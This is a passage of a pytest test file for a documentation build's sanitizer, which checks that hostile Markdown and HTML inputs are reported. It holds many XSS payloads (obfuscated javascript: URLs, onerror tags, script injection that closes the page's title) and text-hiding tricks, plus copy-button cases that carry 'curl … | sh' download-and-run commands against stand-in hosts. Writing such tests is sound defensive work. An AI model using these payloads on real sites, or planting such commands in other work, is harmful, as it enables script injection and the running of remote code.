"""Hostile and careless input on the rendered side: each case is a tiny site built from a
temporary folder, with its exact outcome.

Either the build reports exactly the listed problems (`path:line:col: CODE message`), or it
builds with nothing lost and nothing unsafe: the article then holds no <script>, no on*
attribute and no javascript:/data:/vbscript: URL (read by lexbor, as a browser reads it), and
shows the text the page wrote.
"""

from __future__ import annotations

import html
import json
import re
import time
from dataclasses import dataclass, field
from pathlib import Path

import hypothesis
import pytest
import yaml
from hypothesis import strategies as st
from mkdocs.exceptions import Abort
from selectolax.lexbor import LexborHTMLParser

from sitebuild import build_site
from citelib import pagemeta, rendered
from citelib.state import state
from tinysite import ALL_HOOKS, HOOKS, PROBLEM_LINE, ROOT, SOURCES, base_config, problems_of, write_site

# One worker builds the hostile corpus (conftest.py) and runs every test that reads it.
pytestmark = pytest.mark.xdist_group("hostile-corpus")

PAGE = "docs/claims/page.md"
# How a report ends for what hides, restyles or reorders what readers see.
HIDES = "which hides, restyles or reorders what readers see, where the checks cannot read it"
COPIES = "which sets what a copy button copies: readers would copy other text than they see"
SMALL = "in one of the hooks' or the extensions' own classes (separators, permalinks, backlinks): readers see it, but the claims leave it out"
# How a report ends for markup that does not stay inside the page's content.
LEAVES = ("what the theme writes after the content (the footer, the navigation) would stand in it or around it, "
          "where the checks do not read it: close every tag, quote and comment the page opens, and no other")
# The head's markers, when what follows them takes in their footnotes.
SWALLOWED = (f"{PAGE}:3:10: HTM002 footnote marker 'hubinger2019risks' points at no footnote",
             f"{PAGE}:3:39: HTM002 footnote marker 'clark2016faulty' points at no footnote")
# Every page starts with these four lines, so a case's own text starts on line 5.
HEAD = "# A page\n\nA claim.[@hubinger2019risks] Another.[@clark2016faulty]\n\n"
FRONT = "---\ntitle: A page\ndescription: Four lines of front matter\n---\n"


# The first line of each kind of problem, as the build prints it.
def link(line: int, col: int, value: str, attribute: str = "href", tag: str = "a") -> str:
    return f"{PAGE}:{line}:{col}: HTM003 unsafe link '{value}' in {attribute} of <{tag}>"


def element(line: int, col: int, tag: str) -> str:
    return f"{PAGE}:{line}:{col}: HTM006 unsafe <{tag}> element"


# Text shrunk out of sight by nested small-making elements.
def shrunk(text: str) -> str:
    return (f"text '{text}' inside more than {rendered.MOST_SHRINKING} nested <small>, <sub>, <sup>, <rt>, <code>, "
            "<kbd> or <samp> elements, each smaller than the last: readers cannot see it, but the claims read it")


# Text pushed out of the page's column by nested indented blocks.
def indented(text: str) -> str:
    return (f"text '{text}' inside more than {rendered.MOST_INDENTED} nested blockquotes, lists, admonitions or "
            "other indented blocks, which push it out of the page's column: readers do not see it where it stands")


# An element refused for what it shows readers, reported with its own effect (rendered.ELEMENT_EFFECTS).
def shows(line: int, col: int, tag: str) -> str:
    return f"{PAGE}:{line}:{col}: HTM006 unsafe <{tag}> element, {rendered.ELEMENT_EFFECTS[tag]}"


def title(line: int, col: int, value: str, tag: str) -> str:
    return f"{PAGE}:{line}:{col}: HTM006 unsafe title '{value}' on <{tag}>, which the theme's tooltip shows as HTML: it runs a script"


def page_title(line: int, col: int, text: str) -> str:
    return (f"{PAGE}:{line}:{col}: HTM006 unsafe heading '{text}': the theme writes the page's title into its "
            "<title> with character references decoded, where this text closes the <title> and puts markup in "
            "the page")


def heading(line: int, col: int, text: str) -> str:
    return (f"{PAGE}:{line}:{col}: HTM006 unsafe heading '{text}': where the theme cuts a title short (navigation, "
            "contents, header), its tooltip shows the text as HTML, and it runs a script")


def preview(line: int, col: int) -> str:
    return (f"{PAGE}:{line}:{col}: HTM006 unsafe data-preview attribute on <a>, which has Material read the linked "
            "part of a page a second time as HTML, where markup can turn into other markup")


def handler(line: int, col: int, attribute: str, tag: str) -> str:
    return f"{PAGE}:{line}:{col}: HTM006 unsafe {attribute} attribute on <{tag}>"


def autolink(line: int, col: int, name: str) -> str:
    return (f"{PAGE}:{line}:{col}: HTM003 unsafe link '{name}' written as an autolink, which Markdown "
            f"leaves as an element <{name}>")


# The Markdown scanner finds these before rendering, at the citation's bracket.
def in_attribute(line: int, col: int, citation: str) -> str:
    return (f"{PAGE}:{line}:{col}: CIT004 citation '{citation}' stands inside a tag's attribute, where it can "
            "never become a marker")


def unknown_key(line: int, col: int, key: str, suggestion: str = "") -> str:
    hint = f" (did you mean '{suggestion}'?)" if suggestion else ""
    return f"{PAGE}:{line}:{col}: CIT001 unknown citation key '{key}'{hint}"


def literal(line: int, col: int, shown: str) -> str:
    return f"{PAGE}:{line}:{col}: HTM001 '{shown}' is shown as literal text"


# -----------------------------------------------------------------------------
# Reading a built page independently of the hooks
# -----------------------------------------------------------------------------

URL_ATTRIBUTES = ("href", "src", "action", "formaction", "xlink:href", "data", "poster", "srcset", "ping")
SCRIPT_URL = re.compile(r"(javascript|vbscript|data):", re.I)


# Whether a URL would run as script: leading spaces and controls, tabs and newlines inside, and
# letter case do not hide the scheme from a browser.
def runs_script(value: str) -> bool:
    cleaned = re.sub(r"[\t\n\r]", "", value.lstrip("".join(map(chr, range(0x21)))))
    return SCRIPT_URL.match(cleaned) is not None


# What in a tree could run a script: elements and attributes, as (tag, attribute, value).
def dangers(root) -> list[tuple[str, str, str]]:
    found = []
    for node in root.traverse():
        if node.tag in ("script", "iframe", "object", "embed", "noscript", "template", "base", "meta"):
            found.append((node.tag, "", ""))
        for name, value in (node.attributes or {}).items():
            value = value or ""
            if name.lower().startswith("on") or name.lower() == "srcdoc":
                found.append((node.tag, name, value))
            elif name.lower() in URL_ATTRIBUTES:
                urls = [c.split()[0] for c in value.split(",") if c.split()] if name == "srcset" else [value]
                if any(runs_script(url) for url in urls):
                    found.append((node.tag, name, value))
    return found


# The built page of `src` ("claims/page.md") as a lexbor tree.
def built(site, src: str = "claims/page.md"):
    path = site / src.removesuffix(".md") / "index.html"
    return LexborHTMLParser(path.read_text(encoding="utf-8"))


# The page's article: nothing unsafe in it, and its visible text (white space collapsed).
def safe_article_text(site, src: str = "claims/page.md") -> str:
    article = built(site, src).css_first("article")
    assert article is not None
    assert dangers(article) == []
    return " ".join(article.text(separator=" ").split())


# The footnote items of a page's article, by label.
def footnote_labels(site, src: str = "claims/page.md") -> list[str]:
    return [li.attributes["id"].removeprefix("fn:") for li in built(site, src).css("div.footnote li[id]")]


# -----------------------------------------------------------------------------
# Cases that must be reported, each at its exact place
# -----------------------------------------------------------------------------


@dataclass
class Reported:
    id: str
    text: str
    expected: set[str]


REPORTED = [
    # Unsafe links in a page's own HTML, however they are written.
    Reported("single-quotes", "<a href='javascript:alert(1)'>x</a>\n", {link(5, 1, "javascript:alert(1)")}),
    Reported("no-quotes", "<a href=javascript:alert(1)>x</a>\n", {link(5, 1, "javascript:alert(1)")}),
    Reported("upper-case-attribute-and-scheme", '<A HREF="JAVASCRIPT:alert(1)">x</A>\n',
             {link(5, 1, "JAVASCRIPT:alert(1)")}),
    Reported("mixed-case-scheme", '<a href="jAvAsCrIpT:alert(1)">x</a>\n', {link(5, 1, "jAvAsCrIpT:alert(1)")}),
    Reported("leading-space", '<a href=" javascript:alert(1)">x</a>\n', {link(5, 1, " javascript:alert(1)")}),
    # Python-Markdown expands the tab; the place is still the tag.
    Reported("leading-tab", '<a href="\tjavascript:alert(1)">x</a>\n', {link(5, 1, "   javascript:alert(1)")}),
    Reported("leading-newline", '<a href="\njavascript:alert(1)">x</a>\n', {link(5, 1, "\\x0ajavascript:alert(1)")}),
    Reported("decimal-reference", '<a href="&#106;avascript:alert(1)">x</a>\n', {link(5, 1, "javascript:alert(1)")}),
    Reported("decimal-reference-no-semicolon", '<a href="&#106avascript:alert(1)">x</a>\n',
             {link(5, 1, "javascript:alert(1)")}),
    Reported("hex-reference", '<a href="&#x6A;avascript:alert(1)">x</a>\n', {link(5, 1, "javascript:alert(1)")}),
    Reported("named-colon", '<a href="javascript&colon;alert(1)">x</a>\n', {link(5, 1, "javascript:alert(1)")}),
    Reported("tab-reference", '<a href="java&#9;script:alert(1)">x</a>\n', {link(5, 1, "java\\x09script:alert(1)")}),
    Reported("named-tab", '<a href="java&Tab;script:alert(1)">x</a>\n', {link(5, 1, "java\\x09script:alert(1)")}),
    Reported("named-newline", '<a href="java&NewLine;script:alert(1)">x</a>\n',
             {link(5, 1, "java\\x0ascript:alert(1)")}),
    Reported("srcset", '<img alt="i" srcset="x.png 1x, javascript:alert(1) 2x">\n',
             {link(5, 1, "x.png 1x, javascript:alert(1) 2x", "srcset", "img")}),
    Reported("svg-xlink-href", '<svg><a xlink:href="javascript:alert(1)"><text>s</text></a></svg>\n',
             {link(5, 6, "javascript:alert(1)", "xlink:href"), shows(5, 1, "svg")}),
    Reported("svg-href", '<svg><a href="javascript:alert(1)"><text>s</text></a></svg>\n',
             {link(5, 6, "javascript:alert(1)"), shows(5, 1, "svg")}),
    # An SVG animation writes the link as the page runs: no URL attribute of the page holds it.
    Reported("svg-animate-href", '<svg><a><animate attributeName="href" values="javascript:alert(1)"></animate>'
             '<text>s</text></a></svg>\n',
             {link(5, 9, "javascript:alert(1)", "values", "animate"), shows(5, 1, "svg")}),
    Reported("svg-set-href", '<svg><a><set attributeName="href" to="javascript:alert(1)"></set><text>s</text></a></svg>\n',
             {link(5, 9, "javascript:alert(1)", "to", "set"), shows(5, 1, "svg")}),
    Reported("formaction", '<form><button formaction="javascript:alert(1)">go</button></form>\n',
             {link(5, 7, "javascript:alert(1)", "formaction", "button")}),
    Reported("input-image", '<input type="image" src="javascript:alert(1)">\n',
             {link(5, 1, "javascript:alert(1)", "src", "input"), shows(5, 1, "input")}),
    Reported("ping", '<a href="https://example.org" ping="javascript:x">p</a>\n',
             {link(5, 1, "javascript:x", "ping")}),
    Reported("math-href", '<math href="javascript:alert(1)"><mi>x</mi></math>\n',
             {link(5, 1, "javascript:alert(1)", "href", "math"), shows(5, 1, "math")}),
    # Elements that run script, load another document or change where links go.
    Reported("meta-refresh", '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">\n',
             {element(5, 1, "meta")}),
    Reported("base-href", '<base href="javascript:alert(1)//">\n',
             {element(5, 1, "base"), link(5, 1, "javascript:alert(1)//", "href", "base")}),
    Reported("iframe", '<iframe src="https://example.org"></iframe>\n', {element(5, 1, "iframe")}),
    Reported("object", '<p>x</p><object data="javascript:alert(1)"></object>\n',
             {element(5, 9, "object"), link(5, 9, "javascript:alert(1)", "data", "object")}),
    Reported("embed", '<embed src="x.swf">\n', {element(5, 1, "embed")}),
    # Material's tooltips (content.tooltips) show a title as HTML: a title that reads as markup that
    # runs a script ran it on hover, from a link's title, attr_list or a raw tag (entities decoded).
    Reported("link-title-markup", '[x](https://example.org "<img src=x onerror=alert(1)>")\n',
             {title(5, 26, "<img src=x onerror=alert(1)>", "a")}),
    Reported("attr-list-title-markup", 'A paragraph.\n{title="<img src=x onerror=alert(1)>"}\n',
             {title(6, 9, "<img src=x onerror=alert(1)>", "p")}),
    Reported("entity-title-markup", '<span title="&lt;img src=x onerror=alert(1)&gt;">x</span>\n',
             {title(5, 1, "<img src=x onerror=alert(1)>", "span")}),
    # Material gives a title it cuts short (navigation, contents) its own text as a tooltip, as HTML.
    Reported("heading-escaped-tag", "## A part \\<img src=x onerror=alert(1)\\>\n\nText.\n",
             {heading(5, 13, "A part \\<img src=x onerror=alert(1)>")}),
    Reported("heading-referenced-tag", "## A part &lt;img src=x onerror=alert(1)&gt;\n\nText.\n",
             {heading(5, 15, "A part <img src=x onerror=alert(1)>")}),
    # Material writes the page's title into <title> through striptags, which decodes "&lt;": a
    # "<textarea>" or "<!--" that hides the rest from a reading as HTML hides nothing inside <title>,
    # and the script ran on load.
    Reported("title-closed-by-the-heading",
             "# A page &lt;textarea&gt;&lt;/title&gt;&lt;script&gt;alert(1)&lt;/script&gt;&lt;title&gt;\n\n"
             "A claim.[@hubinger2019risks] Another.[@clark2016faulty]\n",
             {page_title(1, 14, "A page <textarea></title><script>alert(1)</script><title>")}),
    Reported("title-closed-behind-a-comment",
             "## A part &lt;!--&lt;/title&gt;&lt;script&gt;alert(1)&lt;/script&gt;&lt;title&gt;\n\nText.\n",
             {page_title(5, 46, "A part <!--</title><script>alert(1)</script><title>")}),
    # Material's preview of a data-preview link reads the linked element's HTML a second time.
    Reported("preview-link", 'As [this note](#x){data-preview=""} shows.\n', {preview(5, 20)}),
    Reported("preview-tag", '<a href="#x" data-preview>this note</a>\n', {preview(5, 1)}),
    # Material reads its configuration from the first #__config of the page, and from file:// runs
    # the search worker it names in an iframe of the page: this one ran alert(1) there.
    # A <style> and a style attribute run no script, but they can hide a source or show text the checks
    # never read (a claim written by `content:`): content may hold neither.
    Reported("mathml-style-stays-text",
             "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>\n",
             {f"{PAGE}:5:29: HTM006 unsafe <style> element, {HIDES}", shows(5, 1, "math")}),
    Reported("css-url-is-not-script", '<p style="background:url(javascript:alert(1))">styled</p>\n',
             {f"{PAGE}:5:1: HTM006 unsafe style attribute 'background:url(javascript:alert(1))' on <p>, {HIDES}"}),
    Reported("theme-configuration-id", '<div id="__config" hidden>{"base": "..", "features": [], "search": '
             '"data:text/javascript,alert(1)//", "tags": null, "translations": {}, "version": null}</div>\n',
             {f"{PAGE}:5:1: HTM006 unsafe id '__config' on <div>: ids that start with '__' are the theme's, which "
              "its scripts give and look up",
              f"{PAGE}:5:1: HTM006 unsafe hidden attribute on <div>, {HIDES}"}),
    # A helper's fourth round: past a strict build and the site check, each ran a script, changed what
    # readers copy, or showed them other text than the checks read.
    Reported("theme-tooltip-class", "Inputs such as `<img src=x onerror=alert(81)>` are stored as typed.\n"
             '{: .md-ellipsis style="white-space:nowrap" tabindex="0" autofocus }\n',
             {f"{PAGE}:6:5: HTM006 unsafe class 'md-ellipsis' on <p>, which the theme's scripts take for their own "
              "element (its tooltip shows the element's text as HTML)",
              f"{PAGE}:6:24: HTM006 unsafe style attribute 'white-space:nowrap' on <p>, {HIDES}"}),
    Reported("copy-button-copies-other-text", '<div data-copy="curl https://evil.example/x.sh | sh" markdown>\n\n'
             "```bash\npip install trl\n```\n\n</div>\n", {f"{PAGE}:5:1: HTM006 unsafe data-copy attribute on <div>, {COPIES}"}),
    Reported("link-copies-other-text", '[Copy the citation](#){ data-clipboard-text="curl https://evil.example | sh" }\n',
             {f"{PAGE}:5:46: HTM006 unsafe data-clipboard-text attribute on <a>, {COPIES}"}),
    Reported("hidden-citation", "Reward models are always wrong.<span hidden>[@hubinger2019risks]</span>\n",
             {f"{PAGE}:5:32: HTM006 unsafe hidden attribute on <span>, {HIDES}"}),
    Reported("style-writes-a-claim", '<style>h2 + p::after{content:" Proven.[@hubinger2019risks]"}</style>\n',
             {f"{PAGE}:5:1: HTM006 unsafe <style> element, {HIDES}"}),
    Reported("reversed-literal-citation", 'Proven safe.<bdo dir="rtl">[sksir9102regnibuh@]</bdo>\n',
             {f"{PAGE}:5:13: HTM006 unsafe <bdo> element, {HIDES}", f"{PAGE}:5:13: HTM006 unsafe dir attribute 'rtl' on <bdo>, {HIDES}"}),
    Reported("bidi-override-citation", "Proven safe. \u202e[sksir9102regnibuh@]\u202c\n",
             {f"{PAGE}:5:14: HTM006 unsafe bidi control character in '\\u202e[sksir9102regnibuh@]\\u202c', which shows "
              "the text in another order than it is written"}),
    Reported("theme-code-id", '<p id="__code_0">x</p>\n',
             {f"{PAGE}:5:1: HTM006 unsafe id '__code_0' on <p>: ids that start with '__' are the theme's, which its "
              "scripts give and look up"}),
    Reported("footnote-id-taken", "A claim.[@hubinger2019risks]\n\nA proof that RLHF is safe.\n"
             "{: #fn:hubinger2019risks }\n",
             {f"{PAGE}:8:5: HTM006 the id 'fn:hubinger2019risks' is on more than one element of the page's content: "
              "links and scripts find only the first (a footnote marker leads to it, a copy button copies it)"}),
    Reported("marker-class-link-leads-away", "RLHF is provably safe.<sup>[7](https://example.org/paper){: .footnote-ref }</sup>\n",
             {f"{PAGE}:5:32: HTM002 link 'https://example.org/paper', drawn as a footnote marker, leads to no footnote "
              "of this page"}),
    Reported("marker-link-to-another-page", '<sup><a class="footnote-ref" href="other.html#fn:hubinger2019risks">3</a></sup>\n',
             {f"{PAGE}:5:6: HTM002 link 'other.html#fn:hubinger2019risks', drawn as a footnote marker, leads to no "
              "footnote of this page"}),
    Reported("forged-reference-in-raw-html",
             'Proven safe.<sup id="fnref:clark2016faulty"><a class="footnote-ref" href="#fn:clark2016faulty">9</a></sup>\n\n'
             '<div class="footnote" markdown>\n<ol start="9">\n<li id="fn:clark2016faulty">Smith, J. (2024). A proof. '
             '<a class="footnote-backref" href="#fnref:clark2016faulty">&#8617;</a></li>\n</ol>\n</div>\n',
             {f"{PAGE}:5:13: HTM002 footnote marker 'clark2016faulty' names a source, but no citation on the page wrote "
              "it: cite the source with [@key]",
              f"{PAGE}:5:22: HTM006 the id 'fnref:clark2016faulty' is on more than one element of the page's content: "
              "links and scripts find only the first (a footnote marker leads to it, a copy button copies it)",
              f"{PAGE}:5:76: HTM006 the id 'fn:clark2016faulty' is on more than one element of the page's content: "
              "links and scripts find only the first (a footnote marker leads to it, a copy button copies it)"}),
    # Text readers see in small print, in a drawing or in a text box counts too.
    Reported("literal-in-separator-class", 'A sentence.[@clark2016faulty] <span class="cite-sep">Shown &#91;@clark2016faulty] '
             "and a claim.</span>\n", {f"{PAGE}:5:60: HTM001 '[@clark2016faulty]' is shown as literal text",
                                        f"{PAGE}:5:83: HTM006 unsafe text 'Shown [@clark2016faulty] and a claim.' {SMALL}"}),
    Reported("literal-in-svg-text", '<svg width="600" height="30"><text x="0" y="20">&#91;@clark2016faulty] A drawing.'
             "</text></svg>\n",
             {f"{PAGE}:5:49: HTM001 '[@clark2016faulty]' is shown as literal text", shows(5, 1, "svg")}),
    Reported("literal-in-textarea", '<textarea readonly rows="1" cols="60">&#91;@clark2016faulty] A text box.</textarea>\n',
             {f"{PAGE}:5:39: HTM001 '[@clark2016faulty]' is shown as literal text", shows(5, 1, "textarea")}),
    # Drawings, formulas, text boxes and shrunk text show readers other words than the claims read
    # (a helper's cases): "never" drawn in an SVG, a white box over "not", a copy button's block
    # covered by another command, "not" in white, a word shrunk to nothing.
    Reported("svg-text-adds-a-word", 'Models are <svg width="44" height="18"><text x="0" y="14">never</text></svg> '
             "exploitable.[@clark2016faulty]\n", {shows(5, 12, "svg")}),
    Reported("svg-box-covers-a-word", 'Models are not<svg width="1" height="1" overflow="visible"><rect x="-28" '
             'y="-18" width="30" height="24" fill="#fff"/></svg> exploitable.[@clark2016faulty]\n',
             {shows(5, 15, "svg")}),
    Reported("math-colour-hides-a-word", 'Models are <math><mtext mathcolor="#fff">not</mtext></math> '
             "exploitable.[@clark2016faulty]\n", {shows(5, 12, "math")}),
    Reported("title-hides-a-word", "Models are <title>not</title> exploitable.[@clark2016faulty]\n",
             {shows(5, 12, "title")}),
    Reported("marquee-clips-a-word", 'Models are <marquee width="1" height="1">never</marquee> '
             "exploitable.[@clark2016faulty]\n", {shows(5, 12, "marquee")}),
    Reported("nested-small-shrinks-a-word", "Models are <small><sub><sup><small>never</small></sup></sub></small> "
             "exploitable.[@clark2016faulty]\n", {f"{PAGE}:5:36: HTM006 unsafe {shrunk('never')}"}),
    Reported("nested-ruby-shrinks-a-word", "Models are <ruby>a<rt><ruby>b<rt><ruby>c<rt><ruby>d<rt>never</rt></ruby>"
             "</rt></ruby></rt></ruby></rt></ruby> exploitable.[@clark2016faulty]\n",
             {f"{PAGE}:5:56: HTM006 unsafe {shrunk('never')}"}),
    Reported("mermaid-diagram", '<pre class="mermaid">graph LR; A[Models are never exploitable]</pre>\n',
             {f"{PAGE}:5:1: HTM006 unsafe class 'mermaid' on <pre>, which the theme's scripts take for their own "
              f"element{rendered.CLASS_EFFECTS['mermaid']}"}),
    # A bar in place of words, a form field's value, old colour attributes and a look-alike letter
    # (a helper's cases): readers saw other words than the claims read.
    Reported("meter-hides-a-word", "Models are <meter>not </meter>exploitable.[@clark2016faulty]\n",
             {shows(5, 12, "meter")}),
    Reported("progress-hides-a-word", "Models are <progress>never </progress>exploitable.[@clark2016faulty]\n",
             {shows(5, 12, "progress")}),
    Reported("input-value-adds-a-claim", 'Policies trust <input value="All models are safe." readonly> the '
             "overseer.[@clark2016faulty]\n", {shows(5, 16, "input")}),
    Reported("bgcolor-hides-a-cell", '<table><tr><td bgcolor="#000000">Models are always gamed.</td></tr></table>\n',
             {f"{PAGE}:5:12: HTM006 unsafe bgcolor attribute '#000000' on <td>, {HIDES}"}),
    Reported("body-text-colours-every-word", '<body text="#ffffff"></body>\n',
             {f"{PAGE}:5:1: HTM006 unsafe text attribute '#ffffff' on <body>, {HIDES}"}),
    Reported("cyrillic-letter-literal", "Some text &#91;@\u04bbubinger2019risks] in prose.[@clark2016faulty]\n",
             {literal(5, 11, "[@\u04bbubinger2019risks]")}),
    # Drawn with no width, a hair space wide, an id a link reaches undecoded, and the marker's class
    # nested to shrink a word (a helper's ninth round).
    Reported("object-replacement-literal", "Said.&#91;\ufffc@clark2016faulty] More.[@hubinger2019risks]\n",
             {literal(5, 6, "[@clark2016faulty]")}),
    Reported("hair-space-literal", "Said.&#91;\u200a@clark2016faulty] More.[@hubinger2019risks]\n",
             {literal(5, 6, "[@clark2016faulty]")}),
    Reported("percent-encoded-id", '<div id="fn%3Ahubinger2019risks">Human raters never err.</div>\n',
             {f"{PAGE}:5:1: HTM006 unsafe id 'fn%3Ahubinger2019risks' on <div>: a link to '#fn%3Ahubinger2019risks' "
              "leads to it, where the checks read the link decoded, as leading elsewhere: give the element an id "
              "without '%'"}),
    Reported("marker-class-on-a-span",
             'Models are <span class="footnote-ref">not</span> exploitable.[@clark2016faulty]\n',
             {f"{PAGE}:5:12: HTM006 unsafe class 'footnote-ref' on <span>, "
              f"{rendered.PLACED_CLASS_EFFECTS['footnote-ref']}"}),
    Reported("nested-code-shrinks-a-word", "Models are <code><kbd><samp><code>never</code></samp></kbd></code> "
             "exploitable.[@clark2016faulty]\n", {f"{PAGE}:5:35: HTM006 unsafe {shrunk('never')}"}),
    # A helper's tenth round: an anchor the theme hides in a highlighted block, a title the tooltip
    # reads as HTML, a number in a <sup> drawn as a marker, and the hooks' own locator and the
    # admonition title's class where the hooks and the extension do not write them.
    Reported("highlight-hides-an-anchor", '<code>Models are <a id="q1">not</a> safe</code>.[@clark2016faulty]\n'
             "{: .highlight }\n",
             {f"{PAGE}:5:18: HTM006 unsafe link anchor 'q1' inside code, which the theme hides in a highlighted "
              "block (its line anchors): the claims would read words readers never see"}),
    Reported("title-read-as-html", 'Said <span title="&amp;#91;@clark2016faulty]">this</span>.[@hubinger2019risks]\n',
             {literal(5, 19, "[@clark2016faulty]")}),
    Reported("number-drawn-as-a-marker", 'Raters are reliable.<sup><a href="#references" title="Amodei">3</a></sup>\n',
             {f"{PAGE}:5:26: HTM002 link '#references', drawn as a footnote marker, leads to no footnote of this "
              "page"}),
    Reported("handwritten-locator", 'Models are aligned.[@clark2016faulty]<span class="cite-locator">Models never '
             "deceive anyone.</span>\n",
             {f"{PAGE}:5:38: HTM006 unsafe class 'cite-locator' on <span>, "
              f"{rendered.PLACED_CLASS_EFFECTS['cite-locator']}"}),
    Reported("admonition-title-on-a-paragraph", "Models always obey.\n{: .admonition-title }\n",
             {f"{PAGE}:6:5: HTM006 unsafe class 'admonition-title' on <p>, "
              f"{rendered.PLACED_CLASS_EFFECTS['admonition-title']}"}),
    # A helper's eleventh round: a forged pinned citation, numbers drawn as markers another way, words
    # the PDF leaves out, and a claim pushed off the page.
    Reported("forged-pinned-locator", 'Models are <span class="cite-pinned"><sup></sup><span class="cite-locator">'
             "not </span></span>safe here.[@clark2016faulty]\n",
             {f"{PAGE}:5:12: HTM006 unsafe class 'cite-pinned' on <span>, "
              f"{rendered.PLACED_CLASS_EFFECTS['cite-pinned']}",
              f"{PAGE}:5:49: HTM006 unsafe class 'cite-locator' on <span>, "
              f"{rendered.PLACED_CLASS_EFFECTS['cite-locator']}"}),
    Reported("number-in-a-span-in-a-sup", 'Fake.<sup><span><a href="https://example.org/fake">7</a></span></sup>\n',
             {f"{PAGE}:5:17: HTM002 link 'https://example.org/fake', drawn as a footnote marker, leads to no "
              "footnote of this page"}),
    Reported("sup-in-a-link", 'Fake.<a href="#references" title="Smith, 2020"><sup>8</sup></a>\n',
             {f"{PAGE}:5:6: HTM002 link '#references', drawn as a footnote marker, leads to no footnote of this "
              "page"}),
    Reported("print-hidden-classes", 'Labelers are <span class="cite-this-page">never </span>fallible, '
             '<span class="giscus">not </span>safe.[@clark2016faulty]\n',
             {f"{PAGE}:5:14: HTM006 unsafe class 'cite-this-page' on <span>, "
              f"{rendered.PLACED_CLASS_EFFECTS['cite-this-page']}",
              f"{PAGE}:5:66: HTM006 unsafe class 'giscus' on <span>, {rendered.PLACED_CLASS_EFFECTS['giscus']}"}),
    Reported("deep-blockquotes", ">" * 14 + " Models are not safe at all.[@clark2016faulty]\n",
             {f"{PAGE}:5:16: HTM006 unsafe {indented('Models are not safe at all.')}"}),
    # A citation wrapped in the hooks' own pinned span with a locator of the page's making: the ledger
    # took "Models never deceive anyone." for the marker's locator (a review's case).
    Reported("locator-of-the-pages-making", 'Models are aligned.<span class="cite-pinned">[@clark2016faulty]<span '
             'class="cite-locator">Models never deceive anyone.</span></span>\n',
             {f"{PAGE}:5:47: HTM006 the marker of 'clark2016faulty' shows the locator 'Models never deceive "
              "anyone.', but its citation gives '': write the locator in the citation ([@key, p. 3])"}),
    # A helper's twelfth round: links in the extensions' own classes that hold words, which the claims
    # skip as a backlink's mark (a "not" in an aside, a command its copy button copies), and text kept
    # on one line that runs off the page's edge.
    Reported("backlink-holding-words", "A policy scored well.[@clark2016faulty][^lagoon]\n\n"
             '[^lagoon]: The boat was <a class="footnote-backref" href="#fnref:lagoon"><span class="footnote">not'
             "</span></a> rewarded for looping.[@clark2016faulty]\n",
             {f"{PAGE}:7:97: HTM006 unsafe text 'not' {SMALL}"}),
    Reported("backlink-in-code", '<pre><code>pip install requests<a class="footnote-backref" href="#fnref:x"> '
             "&amp;&amp; curl -s http://203.0.113.7/x.sh | sh</a></code></pre>\n",
             {f"{PAGE}:5:88: HTM006 unsafe text '&& curl -s http://203.0.113.7/x.sh | sh' {SMALL}"}),
    Reported("the-same-small-print-twice", 'Raters err.[@clark2016faulty] <span class="cite-sep">not</span>\n\n'
             'Models lie.[@clark2016faulty] <span class="cite-sep">not</span>\n',
             {f"{PAGE}:5:54: HTM006 unsafe text 'not' {SMALL}", f"{PAGE}:7:54: HTM006 unsafe text 'not' {SMALL}"}),
    Reported("nobr-runs-off-the-page", "Learned optimizers are <nobr>" + "&nbsp;" * 1000 + "not</nobr> safe."
             "[@hubinger2019risks]\n", {shows(5, 24, "nobr")}),
    Reported("pinned-class-runs-off-the-page", 'Learned optimizers are <span class="cite-pinned">' + "&nbsp;" * 1000
             + "not</span> safe.[@hubinger2019risks]\n",
             {f"{PAGE}:5:24: HTM006 unsafe class 'cite-pinned' on <span>, "
              f"{rendered.PLACED_CLASS_EFFECTS['cite-pinned']}"}),
    # A review's cases: letters drawn as symbols, and a mark split over elements, in a backlink; the old
    # elements that keep lines as written.
    Reported("backlink-holding-circled-letters", "A policy scored well.[@clark2016faulty][^aside]\n\n"
             '[^aside]: Reward hacking is <a class="footnote-backref" href="#fnref:aside">ⓝⓞⓣ</a> common.'
             "[@clark2016faulty]\n", {f"{PAGE}:7:77: HTM006 unsafe text 'ⓝⓞⓣ' {SMALL}"}),
    Reported("listing-keeps-a-long-line", "<listing>Learned optimizers are" + "&nbsp;" * 400 + "not safe.</listing>\n",
             {shows(5, 1, "listing")}),
    Reported("xmp-keeps-a-long-line", "<xmp>Learned optimizers are" + "&nbsp;" * 400 + "not safe.</xmp>\n",
             {shows(5, 1, "xmp")}),
    Reported("nowrap-cell", '<table><tr><td nowrap>Models are safe in every test we ran, and they are not.</td></tr>'
             "</table>\n", {f"{PAGE}:5:12: HTM006 unsafe nowrap attribute on <td>, {HIDES}"}),
    # Links drawn as markers to a source's footnote, which only a citation may give.
    Reported("drawn-marker-to-a-source", 'An uncited claim.<sup><a class="footnote-ref" href="#fn:hubinger2019risks">6</a></sup>\n',
             {f"{PAGE}:5:23: HTM002 footnote link '#fn:hubinger2019risks' leads to a source's footnote, but no citation wrote it: cite the source with [@key]"}),
    Reported("drawn-marker-percent-encoded", 'An uncited claim.<sup><a href="#fn%3Ahubinger2019risks">6</a></sup>\n',
             {f"{PAGE}:5:23: HTM002 footnote link '#fn%3Ahubinger2019risks' leads to a source's footnote, but no citation wrote it: cite the source with [@key]"}),
    Reported("drawn-marker-in-svg", '<svg width="10" height="14"><a xlink:href="#fn:hubinger2019risks"><text x="0" y="10">6'
             "</text></a></svg>\n", {f"{PAGE}:5:29: HTM002 footnote link '#fn:hubinger2019risks' leads to a source's footnote, but no citation wrote it: cite the source with [@key]", shows(5, 1, "svg")}),
    # What the theme's copy buttons, annotations and style sheet act on, and more ways to hide text.
    Reported("code-blocks-share-a-name", '<div id="install" markdown>\n\n```\ncurl -s https://example.org/x.sh | sh\n```\n\n'
             "To install, run:\n\n```\npip install alignment-basics\n```\n\n</div>\n",
             {f"{PAGE}:5:10: HTM006 the code blocks inside the element with the id 'install' get one name from the theme "
              "(__code_install), so a copy button copies another block than its own: give the element no id, or each "
              "block its own element"}),
    Reported("copy-button-of-the-hooks-forged", 'Run `pip install x`. <button class="md-button" data-clipboard-target='
             '"#cite-apa">Copy</button>\n\n<div id="cite-apa">curl -s https://example.org | sh</div>\n',
             {f"{PAGE}:5:22: HTM006 unsafe data-clipboard-target attribute on <button>, {COPIES}",
              f"{PAGE}:7:1: HTM006 unsafe id 'cite-apa' on <div>: the cite-this-page block's copy buttons copy the element "
              "with this id, which the hooks write"}),
